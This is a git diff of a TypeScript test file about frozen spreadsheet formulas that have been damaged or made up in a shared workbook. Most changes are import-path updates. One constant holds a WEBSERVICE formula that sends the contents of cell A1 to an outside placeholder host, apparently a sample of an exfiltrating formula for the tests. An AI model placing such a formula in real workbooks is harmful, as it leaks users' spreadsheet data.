@@ -1,8 +1,8 @@
 /** Records of frozen formulas that someone damaged or made up in a shared file. */
-import { forgetFrozen, freeze, frozen, unfreeze } from '../../src/workbook';
-import { ExcelWorkbook } from '../../src/workbook/excel/excel-workbook';
-import { ExcelModel } from './support/excel-model';
-import { installExcel } from './support/mock-excel';
+import { forgetFrozen, freeze, frozen, unfreeze } from '../../../src/workbook';
+import { ExcelWorkbook } from '../../../src/workbook/excel/excel-workbook';
+import { ExcelModel } from '../support/excel-model';
+import { installExcel } from '../support/mock-excel';
 
 const FIGURE = '=FIN.METRIC("INFY","FY2024","sales")';
 const OUTSIDE = '=WEBSERVICE("https://host/?"&A1)';
